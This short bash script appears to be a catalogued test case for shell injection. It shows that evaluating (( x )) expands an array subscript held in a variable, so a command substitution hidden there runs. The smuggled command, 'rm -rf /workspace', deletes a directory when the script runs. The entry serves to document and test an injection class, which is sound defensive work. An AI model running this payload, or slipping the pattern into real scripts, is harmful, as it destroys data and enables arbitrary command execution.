#!/usr/bin/env bash
# attack-class: 20
# title: (( x )) with x='a[$(cmd)]'
# why: arithmetic evaluation expands the array subscript and runs the substitution

x='a[$(rm -rf /workspace)]'
(( x ))
